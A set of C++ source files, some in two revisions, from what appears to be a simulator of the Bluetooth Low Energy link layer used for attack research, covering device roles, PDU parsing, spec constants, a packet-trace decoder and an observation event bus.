    listen(kAdvChannels[0]);
    scan_timer_ = scheduler().schedule_after(kScanRotateInterval, [this] { scan_rotate(); });
}

void LinkLayerDevice::scan_rotate() {
    if (mode_ != Mode::kScanning && mode_ != Mode::kInitiating) return;
    scan_channel_index_ = (scan_channel_index_ + 1) % 3;
    if (!transmitting() && !connect_req_in_flight_) {
        listen(kAdvChannels[scan_channel_index_]);
    }
    scan_timer_ = scheduler().schedule_after(kScanRotateInterval, [this] { scan_rotate(); });
}

void LinkLayerDevice::stop_scanning() {
    if (mode_ == Mode::kScanning) mode_ = Mode::kIdle;
    scheduler().cancel(scan_timer_);
    scan_timer_ = sim::kInvalidEvent;
    stop_listening();
}

// --- Central ---

void LinkLayerDevice::connect_to(const DeviceAddress& peer, ConnectionParams params) {
    connect_target_ = peer;
    if (params.access_address == 0) params.access_address = phy::random_access_address(rng());
    if (params.crc_init == 0) params.crc_init = static_cast<std::uint32_t>(rng().next_below(1u << 24));
    params.master_sca = ppm_to_sca_field(
        config_.declared_sca_ppm > 0 ? config_.declared_sca_ppm : sleep_clock().sca_ppm());
    initiate_params_ = params;
    connect_req_in_flight_ = false;
    mode_ = Mode::kInitiating;
    scan_channel_index_ = 0;
    listen(kAdvChannels[0]);
    scan_timer_ = scheduler().schedule_after(kScanRotateInterval, [this] { scan_rotate(); });
}

// --- Connection plumbing ---

ConnectionHooks LinkLayerDevice::make_effective_hooks() {
    ConnectionHooks hooks = user_hooks_;
    auto user_disconnect = hooks.on_disconnected;
    hooks.on_disconnected = [this, user_disconnect](DisconnectReason reason) {
        if (user_disconnect) user_disconnect(reason);
        // Defer destruction: we are inside a Connection member function.
        // injectable-lint: allow(D4) -- immediate one-shot; nothing to cancel
        (void)scheduler().schedule_after(0, [this] { cleanup_connection(); });
    };
    return hooks;
}

void LinkLayerDevice::cleanup_connection() {
    connection_.reset();
    mode_ = Mode::kIdle;
    if (config_.auto_readvertise && !adv_data_.empty()) {
        start_advertising(std::move(adv_data_));
    }
}

void LinkLayerDevice::become_slave(const ConnectReqPdu& req, TimePoint connect_req_end) {
    scheduler().cancel(adv_timer_);
    adv_timer_ = sim::kInvalidEvent;
    stop_listening();
    mode_ = Mode::kConnected;

    ConnectionConfig cfg;
    cfg.role = Role::kSlave;
    cfg.params = req.params;
    cfg.own_sca_ppm = sleep_clock().sca_ppm();
    cfg.widening_scale = config_.widening_scale;
    connection_ = std::make_unique<Connection>(*this, std::move(cfg), make_effective_hooks());
    connection_->start(connect_req_end);
    BLE_LOG_INFO(name(), ": connection established as slave (AA=0x", std::hex,
                 req.params.access_address, std::dec, ")");
    if (on_connection_established) on_connection_established(*connection_);
}

void LinkLayerDevice::become_master(TimePoint connect_req_end) {
    scheduler().cancel(scan_timer_);
    scan_timer_ = sim::kInvalidEvent;
    stop_listening();
    mode_ = Mode::kConnected;

    ConnectionConfig cfg;
    cfg.role = Role::kMaster;
    cfg.params = initiate_params_;
    cfg.own_sca_ppm = sleep_clock().sca_ppm();
    cfg.widening_scale = config_.widening_scale;
    connection_ = std::make_unique<Connection>(*this, std::move(cfg), make_effective_hooks());
    connection_->start(connect_req_end);
    BLE_LOG_INFO(name(), ": connection established as master (AA=0x", std::hex,
                 initiate_params_.access_address, std::dec, ")");
    if (on_connection_established) on_connection_established(*connection_);
}

// --- radio callbacks ---

void LinkLayerDevice::on_rx(const sim::RxFrame& frame) {
    if (mode_ == Mode::kConnected && connection_) {
        connection_->handle_rx(frame);
        return;
    }
    handle_adv_channel_rx(frame);
}

void LinkLayerDevice::on_tx_complete() {
    if (mode_ == Mode::kConnected && connection_) {
        connection_->handle_tx_complete();
        return;
    }
    if (mode_ == Mode::kAdvertising) {
        if (sending_scan_rsp_) {
            sending_scan_rsp_ = false;
            ++adv_channel_index_;
            advertise_on_next_channel();
            return;
        }
        // ADV_IND sent: listen for CONNECT_REQ / SCAN_REQ for T_IFS + frame.
        listen(kAdvChannels[adv_channel_index_]);
        adv_timer_ = scheduler().schedule_after(
            kTifs + kMaxAdvFrameAir + kAdvRxGuard, [this] {
                if (mode_ != Mode::kAdvertising) return;
                if (receiving()) {
                    adv_timer_ = scheduler().schedule_after(kMaxAdvFrameAir, [this] {
                        if (mode_ != Mode::kAdvertising) return;
                        stop_listening();
                        ++adv_channel_index_;
                        advertise_on_next_channel();
                    });
                    return;
                }
                stop_listening();
                ++adv_channel_index_;
                advertise_on_next_channel();
            });
        return;
    }
    if (mode_ == Mode::kInitiating && connect_req_in_flight_) {
        become_master(now());
        return;
    }
    if (mode_ == Mode::kScanning) {
        // e.g. after an active-scan SCAN_REQ: resume listening for the
        // SCAN_RSP on the same channel.
        listen(kAdvChannels[scan_channel_index_]);
    }
}

}  // namespace ble::link
