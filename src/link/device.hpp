// LinkLayerDevice: a radio with the GAP-visible Link-Layer roles
// (paper §III-A) — Peripheral (advertise, accept CONNECT_REQ), Observer
// (scan), Central (initiate) — and host of the Connection state machine once
// a connection is established.
#pragma once

#include <functional>
#include <memory>
#include <optional>

#include "link/adv_pdu.hpp"
#include "link/connection.hpp"
#include "sim/radio_device.hpp"

namespace ble::link {

/// Default advertising interval (host policy, not a spec mandate; the spec
/// range is 20 ms - 10.24 s, Vol 6 Part B 4.4.2.2).
constexpr Duration kDefaultAdvInterval = 100_ms;

struct LinkLayerDeviceConfig {
    sim::RadioDeviceConfig radio{};
    DeviceAddress address{};
    /// Advertising interval (plus a 0-10 ms pseudo-random advDelay per event).
    Duration adv_interval = kDefaultAdvInterval;
    /// Resume advertising automatically when a connection closes.
    bool auto_readvertise = true;
    /// Passed to Connection (counter-measure evaluation; see ConnectionConfig).
    double widening_scale = 1.0;
    /// SCA advertised in CONNECT_REQ when initiating. 0 = derive from the
    /// actual sleep clock. Real devices declare a conservative (worse) bound
    /// than their typical drift; the window-widening attack surface scales
    /// with the *declared* value.
    double declared_sca_ppm = 0.0;
    /// Advertise / negotiate Channel Selection Algorithm #2 (BLE 5). The
    /// connection uses CSA#2 only when both ends set their ChSel bit.
    bool support_csa2 = false;
};

class LinkLayerDevice : public sim::RadioDevice {
public:
    LinkLayerDevice(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
                    LinkLayerDeviceConfig config);
    ~LinkLayerDevice() override;

    // --- Peripheral role ---
    void start_advertising(Bytes adv_data);
    void set_scan_response(Bytes scan_rsp_data) { scan_rsp_data_ = std::move(scan_rsp_data); }
    void stop_advertising();
    [[nodiscard]] bool advertising() const noexcept { return mode_ == Mode::kAdvertising; }

    // --- Observer role ---
    using AdvObserver = std::function<void(const AdvPdu&, TimePoint rx_end, double rssi_dbm,
                                           sim::Channel channel)>;
    void start_scanning(AdvObserver observer);
    void stop_scanning();

    // --- Central role ---
    /// Scans for `peer` and sends CONNECT_REQ on its next advertisement.
    /// Missing access address / CRCInit in `params` are generated; the SCA
    /// field is filled from this device's own sleep clock.
    void connect_to(const DeviceAddress& peer, ConnectionParams params);

    // --- Connection plumbing ---
    /// Hooks installed on the next Connection this device creates.
    void set_connection_hooks(ConnectionHooks hooks) { user_hooks_ = std::move(hooks); }
    /// Fired when a connection reaches the Link Layer (either role).
    std::function<void(Connection&)> on_connection_established;

    [[nodiscard]] Connection* connection() noexcept { return connection_.get(); }
    [[nodiscard]] const DeviceAddress& address() const noexcept { return config_.address; }

    void on_rx(const sim::RxFrame& frame) override;
    void on_tx_complete() override;

private:
    enum class Mode : std::uint8_t {
        kIdle,
        kAdvertising,
        kScanning,
        kInitiating,
        kConnected,
    };

    void advertising_event();
    void advertise_on_next_channel();
    void scan_rotate();
    void handle_adv_channel_rx(const sim::RxFrame& frame);
    void become_slave(const ConnectReqPdu& req, TimePoint connect_req_end);
    void become_master(TimePoint connect_req_end);
    ConnectionHooks make_effective_hooks();
    void cleanup_connection();

    LinkLayerDeviceConfig config_;
    Mode mode_ = Mode::kIdle;

    // Advertising state.
    Bytes adv_data_;
    Bytes scan_rsp_data_;
    int adv_channel_index_ = 0;  // 0..2 -> channels 37..39
    sim::EventId adv_timer_ = sim::kInvalidEvent;
    bool sending_scan_rsp_ = false;

    // Scanning state.
    AdvObserver adv_observer_;
    sim::EventId scan_timer_ = sim::kInvalidEvent;
    int scan_channel_index_ = 0;

    // Initiating state.
    std::optional<DeviceAddress> connect_target_;
    ConnectionParams initiate_params_{};
    bool connect_req_in_flight_ = false;

    // Connection state.
    ConnectionHooks user_hooks_;
    std::unique_ptr<Connection> connection_;
};

}  // namespace ble::link
