#include "link/pdu.hpp"

namespace ble::link {

namespace {
constexpr std::uint8_t kLlidMask = 0b11;
constexpr std::uint8_t kNesnBit = 1u << 2;
constexpr std::uint8_t kSnBit = 1u << 3;
constexpr std::uint8_t kMdBit = 1u << 4;
}  // namespace

Bytes DataPdu::serialize() const {
    ByteWriter w(2 + payload.size());
    std::uint8_t flags = static_cast<std::uint8_t>(llid) & kLlidMask;
    if (nesn) flags |= kNesnBit;
    if (sn) flags |= kSnBit;
    if (md) flags |= kMdBit;
    w.write_u8(flags);
    w.write_u8(static_cast<std::uint8_t>(payload.size()));
    w.write_bytes(payload);
    return w.take();
}

std::optional<DataPdu> DataPdu::parse(BytesView pdu) noexcept {
    if (pdu.size() < 2) return std::nullopt;
    const std::uint8_t flags = pdu[0];
    const std::uint8_t length = pdu[1];
    if (pdu.size() != static_cast<std::size_t>(length) + 2) return std::nullopt;
    DataPdu out;
    out.llid = static_cast<Llid>(flags & kLlidMask);
    if (out.llid == Llid::kReserved) return std::nullopt;
    out.nesn = (flags & kNesnBit) != 0;
    out.sn = (flags & kSnBit) != 0;
    out.md = (flags & kMdBit) != 0;
    out.payload.assign(pdu.begin() + 2, pdu.end());
    return out;
}

Bytes AdvPdu::serialize() const {
    ByteWriter w(2 + payload.size());
    std::uint8_t flags = static_cast<std::uint8_t>(type) & 0x0F;
    if (ch_sel) flags |= 1u << 5;
    if (tx_add) flags |= 1u << 6;
    if (rx_add) flags |= 1u << 7;
    w.write_u8(flags);
    w.write_u8(static_cast<std::uint8_t>(payload.size() & 0x3F));
    w.write_bytes(payload);
    return w.take();
}

std::optional<AdvPdu> AdvPdu::parse(BytesView pdu) noexcept {
    if (pdu.size() < 2) return std::nullopt;
    const std::uint8_t flags = pdu[0];
    const std::uint8_t length = pdu[1] & 0x3F;
    if (pdu.size() != static_cast<std::size_t>(length) + 2) return std::nullopt;
    AdvPdu out;
    out.type = static_cast<AdvPduType>(flags & 0x0F);
    out.ch_sel = (flags & (1u << 5)) != 0;
    out.tx_add = (flags & (1u << 6)) != 0;
    out.rx_add = (flags & (1u << 7)) != 0;
    out.payload.assign(pdu.begin() + 2, pdu.end());
    return out;
}

}  // namespace ble::link
