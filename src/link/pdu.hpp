// Link-Layer PDU headers (Vol 6, Part B, §2.3 / §2.4).
//
// The two header bits at the heart of the paper's Eq. 6 — SN and NESN — live
// in the first byte of every data-channel PDU.
#pragma once

#include <cstdint>
#include <optional>

#include "common/bytes.hpp"

namespace ble::link {

/// LLID field of a data-channel PDU header.
enum class Llid : std::uint8_t {
    kReserved = 0b00,
    kDataContinuation = 0b01,  ///< L2CAP continuation, or empty PDU (len 0)
    kDataStart = 0b10,         ///< start of an L2CAP message
    kControl = 0b11,           ///< LL control PDU
};

/// Header + payload of a data-channel PDU.
struct DataPdu {
    Llid llid = Llid::kDataContinuation;
    bool nesn = false;
    bool sn = false;
    bool md = false;  ///< More Data: keeps the connection event open
    Bytes payload;

    [[nodiscard]] bool is_empty() const noexcept {
        return llid == Llid::kDataContinuation && payload.empty();
    }
    [[nodiscard]] bool is_control() const noexcept { return llid == Llid::kControl; }

    /// Serializes header (2 bytes) + payload.
    [[nodiscard]] Bytes serialize() const;
    /// Parses a PDU; nullopt on truncation or header/length mismatch.
    static std::optional<DataPdu> parse(BytesView pdu) noexcept;

    static DataPdu empty(bool nesn, bool sn) {
        DataPdu p;
        p.llid = Llid::kDataContinuation;
        p.nesn = nesn;
        p.sn = sn;
        return p;
    }
};

/// Advertising-channel PDU types (4-bit header field).
enum class AdvPduType : std::uint8_t {
    kAdvInd = 0b0000,
    kAdvDirectInd = 0b0001,
    kAdvNonconnInd = 0b0010,
    kScanReq = 0b0011,
    kScanRsp = 0b0100,
    kConnectReq = 0b0101,
    kAdvScanInd = 0b0110,
};

/// Header + payload of an advertising-channel PDU.
struct AdvPdu {
    AdvPduType type = AdvPduType::kAdvInd;
    /// ChSel header bit: the sender supports Channel Selection Algorithm #2.
    /// Set on both ADV_IND and CONNECT_REQ => the connection uses CSA#2.
    bool ch_sel = false;
    bool tx_add = false;  ///< advertiser address is random
    bool rx_add = false;  ///< target address is random
    Bytes payload;

    [[nodiscard]] Bytes serialize() const;
    static std::optional<AdvPdu> parse(BytesView pdu) noexcept;
};

}  // namespace ble::link
