// Spec-anchored Link-Layer constants (Vol 6 Part B), the named homes for the
// channel-count and PDU-size numbers the S1 lint rule bans as bare literals
// in src/link.  Each value is tied to the Core Specification by a
// static_assert so a drifted constant fails the build, not a replay.
#pragma once

#include <cstddef>
#include <cstdint>

namespace ble::link {

/// Data channels 0..36 (Vol 6 Part B §1.4.1): the hopping set both channel
/// selection algorithms remap onto.
constexpr std::uint8_t kNumDataChannels = 37;
/// Advertising channels 37..39.
constexpr std::uint8_t kAdvChannelMin = 37;
constexpr std::uint8_t kAdvChannelMax = 39;
constexpr std::uint8_t kNumAdvChannels = 3;
/// All BLE channels, data + advertising.
constexpr std::uint8_t kNumChannelsTotal = 40;

static_assert(kNumDataChannels == 37, "Vol 6 Part B 1.4.1: data channels 0-36");
static_assert(kAdvChannelMin == kNumDataChannels && kAdvChannelMax == 39,
              "Vol 6 Part B 1.4.1: advertising channels 37-39");
static_assert(kNumDataChannels + kNumAdvChannels == kNumChannelsTotal,
              "Vol 6 Part B 1.4: 40 RF channels in total");

/// Largest advertising-PDU payload: AdvA (6 octets) + AdvData (<= 31 octets)
/// (Vol 6 Part B §2.3.1).
constexpr std::size_t kDeviceAddressBytes = 6;
constexpr std::size_t kMaxAdvDataBytes = 31;
constexpr std::size_t kMaxAdvPayloadBytes = 37;

static_assert(kMaxAdvPayloadBytes == kDeviceAddressBytes + kMaxAdvDataBytes,
              "Vol 6 Part B 2.3.1: AdvA(6) + AdvData(<=31) = 37 octets");

}  // namespace ble::link
