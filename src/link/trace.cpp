#include "link/trace.hpp"

#include <cstdio>

#include "common/hex.hpp"
#include "link/adv_pdu.hpp"
#include "link/control_pdu.hpp"
#include "link/pdu.hpp"
#include "phy/access_address.hpp"
#include "phy/frame.hpp"
#include "sim/radio_device.hpp"

namespace ble::link {

namespace {
const char* adv_type_name(AdvPduType type) {
    switch (type) {
        case AdvPduType::kAdvInd: return "ADV_IND";
        case AdvPduType::kAdvDirectInd: return "ADV_DIRECT_IND";
        case AdvPduType::kAdvNonconnInd: return "ADV_NONCONN_IND";
        case AdvPduType::kScanReq: return "SCAN_REQ";
        case AdvPduType::kScanRsp: return "SCAN_RSP";
        case AdvPduType::kConnectReq: return "CONNECT_REQ";
        case AdvPduType::kAdvScanInd: return "ADV_SCAN_IND";
    }
    return "ADV_UNKNOWN";
}

/// CONNECT_REQ carries every parameter the attacker needs (paper Table II) —
/// surface the ones an analyst greps for when validating a capture.
std::string connect_req_detail(const AdvPdu& pdu) {
    const auto req = ConnectReqPdu::parse(pdu);
    if (!req) return {};
    char buf[96];
    std::snprintf(buf, sizeof(buf), " AA=%08x hop=%u inc=%u win=%u+%u", req->params.access_address,
                  req->params.hop_interval, req->params.hop_increment, req->params.win_size,
                  req->params.win_offset);
    return buf;
}

/// Procedure payload detail for the control PDUs the attack scenarios use:
/// the paper's injections hinge on instants (Fig. 2/7), so name them.
std::string control_detail(const ControlPdu& control) {
    char buf[96];
    switch (control.opcode) {
        case ControlOpcode::kConnectionUpdateInd:
            if (const auto update = ConnectionUpdateInd::parse(control)) {
                std::snprintf(buf, sizeof(buf), " interval=%u instant=%u", update->interval,
                              update->instant);
                return buf;
            }
            break;
        case ControlOpcode::kChannelMapInd:
            if (const auto map = ChannelMapInd::parse(control)) {
                std::snprintf(buf, sizeof(buf), " instant=%u", map->instant);
                return buf;
            }
            break;
        case ControlOpcode::kTerminateInd:
            if (const auto term = TerminateInd::parse(control)) {
                std::snprintf(buf, sizeof(buf), " error=0x%02x", term->error_code);
                return buf;
            }
            break;
        default: break;
    }
    return {};
}
}  // namespace

std::string describe_frame(BytesView bytes) {
    const auto raw = phy::split_frame(bytes);
    if (!raw) return "malformed (" + std::to_string(bytes.size()) + "B)";

    char buf[160];
    if (raw->access_address == phy::kAdvertisingAccessAddress) {
        const auto pdu = AdvPdu::parse(raw->pdu);
        if (!pdu) return "ADV malformed";
        std::string extra;
        if (pdu->type == AdvPduType::kConnectReq) extra = connect_req_detail(*pdu);
        std::snprintf(buf, sizeof(buf), "%s (%zuB)%s%s", adv_type_name(pdu->type),
                      pdu->payload.size(), pdu->ch_sel ? " ChSel" : "", extra.c_str());
        return buf;
    }

    const auto pdu = DataPdu::parse(raw->pdu);
    if (!pdu) return "DATA malformed";
    std::string detail;
    if (pdu->is_control()) {
        if (const auto control = ControlPdu::parse(pdu->payload)) {
            detail = control_opcode_name(control->opcode);
            detail += control_detail(*control);
        } else {
            detail = "LL control (empty)";
        }
    } else if (pdu->is_empty()) {
        detail = "empty PDU";
    } else {
        detail = "L2CAP ";
        detail += pdu->llid == Llid::kDataStart ? "start" : "cont";
        detail += " " + std::to_string(pdu->payload.size()) + "B";
    }
    std::snprintf(buf, sizeof(buf), "DATA sn=%d nesn=%d%s %s", pdu->sn ? 1 : 0,
                  pdu->nesn ? 1 : 0, pdu->md ? " MD" : "", detail.c_str());
    return buf;
}

PacketTrace::PacketTrace(sim::RadioMedium& medium, std::size_t max_records)
    : max_records_(max_records),
      subscription_(medium.bus(), [this](const obs::Event& event) {
          if (const auto* tx = std::get_if<obs::TxStart>(&event)) record_tx(*tx);
      }) {}

void PacketTrace::record_tx(const obs::TxStart& tx) {
    TraceRecord record;
    record.time = tx.time;
    record.sender = std::string(tx.sender);
    record.channel = tx.channel;
    record.air_bytes = tx.bytes.size() + 1;  // + preamble
    if (tx.bytes.size() >= 4) {
        record.access_address = static_cast<std::uint32_t>(
            tx.bytes[0] | (tx.bytes[1] << 8) | (tx.bytes[2] << 16) |
            (static_cast<std::uint32_t>(tx.bytes[3]) << 24));
    }
    record.description = describe_frame(tx.bytes);
    if (on_record) on_record(record);
    if (max_records_ == 0) return;
    if (records_.size() >= max_records_) {
        records_.pop_front();
        ++dropped_;
    }
    records_.push_back(std::move(record));
}

std::string PacketTrace::format(const TraceRecord& record) {
    char buf[224];
    std::snprintf(buf, sizeof(buf), "%12.3f ms  ch %2u  AA %08x  %-10s  %s",
                  to_ms(record.time), record.channel, record.access_address,
                  record.sender.c_str(), record.description.c_str());
    return buf;
}

}  // namespace ble::link
