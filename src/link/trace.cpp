#include "link/trace.hpp"

#include <cstdio>

#include "common/hex.hpp"
#include "link/adv_pdu.hpp"
#include "link/control_pdu.hpp"
#include "link/pdu.hpp"
#include "phy/access_address.hpp"
#include "phy/frame.hpp"
#include "sim/radio_device.hpp"

namespace ble::link {

namespace {
const char* adv_type_name(AdvPduType type) {
    switch (type) {
        case AdvPduType::kAdvInd: return "ADV_IND";
        case AdvPduType::kAdvDirectInd: return "ADV_DIRECT_IND";
        case AdvPduType::kAdvNonconnInd: return "ADV_NONCONN_IND";
        case AdvPduType::kScanReq: return "SCAN_REQ";
        case AdvPduType::kScanRsp: return "SCAN_RSP";
        case AdvPduType::kConnectReq: return "CONNECT_REQ";
        case AdvPduType::kAdvScanInd: return "ADV_SCAN_IND";
    }
    return "ADV_UNKNOWN";
}
}  // namespace

std::string describe_frame(BytesView bytes) {
    const auto raw = phy::split_frame(bytes);
    if (!raw) return "malformed (" + std::to_string(bytes.size()) + "B)";

    char buf[160];
    if (raw->access_address == phy::kAdvertisingAccessAddress) {
        const auto pdu = AdvPdu::parse(raw->pdu);
        if (!pdu) return "ADV malformed";
        std::snprintf(buf, sizeof(buf), "%s (%zuB)%s", adv_type_name(pdu->type),
                      pdu->payload.size(), pdu->ch_sel ? " ChSel" : "");
        return buf;
    }

    const auto pdu = DataPdu::parse(raw->pdu);
    if (!pdu) return "DATA malformed";
    std::string detail;
    if (pdu->is_control()) {
        if (const auto control = ControlPdu::parse(pdu->payload)) {
            detail = control_opcode_name(control->opcode);
        } else {
            detail = "LL control (empty)";
        }
    } else if (pdu->is_empty()) {
        detail = "empty PDU";
    } else {
        detail = "L2CAP ";
        detail += pdu->llid == Llid::kDataStart ? "start" : "cont";
        detail += " " + std::to_string(pdu->payload.size()) + "B";
    }
    std::snprintf(buf, sizeof(buf), "DATA sn=%d nesn=%d%s %s", pdu->sn ? 1 : 0,
                  pdu->nesn ? 1 : 0, pdu->md ? " MD" : "", detail.c_str());
    return buf;
}

PacketTrace::PacketTrace(sim::RadioMedium& medium, std::size_t max_records)
    : max_records_(max_records) {
    medium.add_tx_observer([this](const sim::RadioDevice& sender, sim::Channel channel,
                                  TimePoint time, const sim::AirFrame& frame) {
        if (records_.size() >= max_records_) return;
        TraceRecord record;
        record.time = time;
        record.sender = sender.name();
        record.channel = channel;
        record.air_bytes = frame.bytes.size() + 1;  // + preamble
        if (frame.bytes.size() >= 4) {
            record.access_address = static_cast<std::uint32_t>(
                frame.bytes[0] | (frame.bytes[1] << 8) | (frame.bytes[2] << 16) |
                (static_cast<std::uint32_t>(frame.bytes[3]) << 24));
        }
        record.description = describe_frame(frame.bytes);
        records_.push_back(record);
        if (on_record) on_record(records_.back());
    });
}

std::string PacketTrace::format(const TraceRecord& record) {
    char buf[224];
    std::snprintf(buf, sizeof(buf), "%12.3f ms  ch %2u  AA %08x  %-10s  %s",
                  to_ms(record.time), record.channel, record.access_address,
                  record.sender.c_str(), record.description.c_str());
    return buf;
}

}  // namespace ble::link
