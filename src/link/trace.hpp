// PacketTrace: a Wireshark-style decoder for everything crossing the
// simulated medium. Attach it to a RadioMedium and get one line per frame —
// sender, channel, PDU type, flow-control bits, decoded control opcode —
// which is how the examples' INJECTABLE_TRACE=1 mode and debugging sessions
// see the attack unfold.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "sim/medium.hpp"

namespace ble::link {

/// One decoded over-the-air frame.
struct TraceRecord {
    TimePoint time = 0;
    std::string sender;
    sim::Channel channel = 0;
    std::uint32_t access_address = 0;
    /// Human-readable decode, e.g. "ADV_IND (21B)" or
    /// "DATA sn=1 nesn=0 LL_TERMINATE_IND".
    std::string description;
    std::size_t air_bytes = 0;
};

/// Decodes a serialized frame (AA + PDU + CRC) into the description used by
/// TraceRecord; exposed for tests and external tooling.
[[nodiscard]] std::string describe_frame(BytesView bytes);

class PacketTrace {
public:
    /// Attaches to the medium; records every transmission from then on.
    explicit PacketTrace(sim::RadioMedium& medium, std::size_t max_records = 100'000);

    [[nodiscard]] const std::vector<TraceRecord>& records() const noexcept {
        return records_;
    }
    void clear() noexcept { records_.clear(); }

    /// Optional live sink (e.g. printing); called for every record.
    std::function<void(const TraceRecord&)> on_record;

    /// Formats one record as a fixed-width log line.
    static std::string format(const TraceRecord& record);

private:
    std::vector<TraceRecord> records_;
    std::size_t max_records_;
};

}  // namespace ble::link
