// PacketTrace: a Wireshark-style decoder for everything crossing the
// simulated medium — the human-readable sink of the obs::EventBus. Attach it
// to a RadioMedium and get one line per frame — sender, channel, PDU type,
// flow-control bits, decoded control opcode — which is how the examples'
// INJECTABLE_TRACE=1 mode and debugging sessions see the attack unfold.
//
// Internally the trace is an obs::EventBus subscriber (it consumes
// obs::TxStart events) and a drop-oldest ring: once `max_records` is reached
// the *oldest* record is evicted, so long campaigns keep the tail of the
// story instead of silently going blind.
#pragma once

#include <deque>
#include <functional>
#include <string>
#include <vector>

#include "obs/bus.hpp"
#include "sim/medium.hpp"

namespace ble::link {

/// One decoded over-the-air frame.
struct TraceRecord {
    TimePoint time = 0;
    std::string sender;
    sim::Channel channel = 0;
    std::uint32_t access_address = 0;
    /// Human-readable decode, e.g. "ADV_IND (21B)" or
    /// "DATA sn=1 nesn=0 LL_TERMINATE_IND".
    std::string description;
    std::size_t air_bytes = 0;
};

/// Decodes a serialized frame (AA + PDU + CRC) into the description used by
/// TraceRecord; exposed for tests and external tooling.
[[nodiscard]] std::string describe_frame(BytesView bytes);

class PacketTrace {
public:
    /// Subscribes to the medium's event bus; records every transmission from
    /// then on, keeping at most the `max_records` most recent (drop-oldest).
    explicit PacketTrace(sim::RadioMedium& medium, std::size_t max_records = 100'000);

    /// Buffered records, oldest first (a copy: the ring reorders internally).
    [[nodiscard]] std::vector<TraceRecord> records() const {
        return {records_.begin(), records_.end()};
    }
    [[nodiscard]] std::size_t size() const noexcept { return records_.size(); }
    /// Records evicted so far to honour max_records.
    [[nodiscard]] std::uint64_t dropped() const noexcept { return dropped_; }
    void clear() noexcept {
        records_.clear();
        dropped_ = 0;
    }

    /// Optional live sink (e.g. printing); called for every record, including
    /// ones later evicted from the ring.
    std::function<void(const TraceRecord&)> on_record;

    /// Formats one record as a fixed-width log line.
    static std::string format(const TraceRecord& record);

private:
    void record_tx(const obs::TxStart& tx);

    std::deque<TraceRecord> records_;
    std::size_t max_records_;
    std::uint64_t dropped_ = 0;
    obs::ScopedSubscription subscription_;
};

}  // namespace ble::link
