// EventBus: the per-world observation stream.
//
// One bus per simulated world (it lives in the world's RadioMedium, so every
// component that can reach the radio can reach the bus).  A bus is strictly
// single-threaded — it belongs to one trial's scheduler thread, which is what
// lets TrialRunner attach per-trial sinks with no shared mutable state: each
// worker gets an isolated world, bus and sink set, and the resulting event
// streams are bit-identical between serial and parallel runs.
//
// Two subscriber forms:
//  * EventSink — a virtual interface for long-lived sinks (counters, traces);
//  * subscribe(fn) — a std::function subscriber returning a token, with
//    ScopedSubscription as the RAII form.
// Dispatch order is attachment order (sinks first, then function
// subscribers), which keeps any side effects deterministic.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <utility>
#include <vector>

#include "obs/event.hpp"
#include "obs/prof/profiler.hpp"

namespace ble::obs {

class EventSink {
public:
    virtual ~EventSink() = default;
    virtual void on_event(const Event& event) = 0;
    /// Batched fanout: one virtual call for a contiguous run of events.  The
    /// default forwards to on_event in order, so sinks are batch-transparent;
    /// hot sinks may override to hoist per-call setup out of the loop.  The
    /// events, like single dispatch, are valid only for the duration of the
    /// call.
    virtual void on_events(const Event* events, std::size_t count) {
        for (std::size_t i = 0; i < count; ++i) on_event(events[i]);
    }
    /// Profiler span name used to attribute this sink's fanout cost (see
    /// src/obs/prof).  Stable across processes: part of the prof.* metric
    /// namespace, so override with a fixed literal.
    [[nodiscard]] virtual std::string_view prof_name() const noexcept { return "obs.sink"; }

    /// Cached-id span site for prof_name() — sinks are per-trial and
    /// single-threaded like the bus itself, so a member cache (rather than a
    /// thread-local) is safe and keeps the fanout span on the fast path.
    [[nodiscard]] prof::SpanSite& prof_site() {
        if (!prof_site_) prof_site_.emplace(prof_name());
        return *prof_site_;
    }

private:
    std::optional<prof::SpanSite> prof_site_;
};

class EventBus {
public:
    using Token = std::uint64_t;
    static constexpr Token kInvalidToken = 0;

    EventBus() = default;
    EventBus(const EventBus&) = delete;
    EventBus& operator=(const EventBus&) = delete;

    /// Attaches a sink; the sink must outlive the bus or detach first.
    void attach(EventSink& sink) { sinks_.push_back(&sink); }
    void detach(const EventSink& sink) noexcept {
        std::erase(sinks_, const_cast<EventSink*>(&sink));
    }

    /// Function subscriber; keep the token to unsubscribe.
    Token subscribe(std::function<void(const Event&)> fn) {
        const Token token = next_token_++;
        subscribers_.push_back(Subscriber{token, std::move(fn)});
        return token;
    }
    void unsubscribe(Token token) noexcept {
        std::erase_if(subscribers_, [token](const Subscriber& s) { return s.token == token; });
    }

    /// True when at least one sink or subscriber is attached — emitters may
    /// skip building expensive event payloads when nobody listens.
    [[nodiscard]] bool active() const noexcept {
        return !sinks_.empty() || !subscribers_.empty();
    }
    [[nodiscard]] std::size_t subscriber_count() const noexcept {
        return sinks_.size() + subscribers_.size();
    }

    /// Publishes one event to every subscriber, in attachment order.  Do not
    /// attach/detach from inside a handler.
    template <typename E>
    void emit(const E& event) {
        if (!active()) return;
        dispatch(Event(event));
    }

    void dispatch(const Event& event) {
        if (prof::active() && !sinks_.empty()) {
            dispatch_profiled(event);
            return;
        }
        for (EventSink* sink : sinks_) sink->on_event(event);
        for (const Subscriber& s : subscribers_) s.fn(event);
    }

    /// Publishes a contiguous run of events with one virtual call per sink
    /// (sink-major) instead of one per (sink, event) pair — the batched
    /// fanout the medium uses for multi-receiver capture verdicts.  Every
    /// observer still sees the events in emission order; only the
    /// interleaving *across* independent observers changes, which no
    /// deterministic output depends on (each sink's own stream is what lands
    /// in traces and metrics).  Function subscribers run after the sinks,
    /// per event, as in single dispatch.
    void emit_batch(const Event* events, std::size_t count) {
        if (count == 0 || !active()) return;
        if (count == 1) {
            dispatch(events[0]);
            return;
        }
        if (prof::active() && !sinks_.empty()) {
            for (EventSink* sink : sinks_) {
                prof::Span span(sink->prof_site());
                sink->on_events(events, count);
            }
        } else {
            for (EventSink* sink : sinks_) sink->on_events(events, count);
        }
        for (const Subscriber& s : subscribers_) {
            for (std::size_t i = 0; i < count; ++i) s.fn(events[i]);
        }
    }

private:
    struct Subscriber {
        Token token;
        std::function<void(const Event&)> fn;
    };

    /// Copy of dispatch taken only when a profiler is installed and sinks are
    /// attached: each sink's share of the fanout gets its own span
    /// (prof.span.obs.sink.*), so the flamegraph attributes observation
    /// overhead per sink per context.  Function subscribers run unspanned —
    /// they are anonymous inline logic of the emitting trial, their time is
    /// attributed to the enclosing span, and per-call spans for them would
    /// dominate the profiler's own overhead on busy buses.
    void dispatch_profiled(const Event& event) {
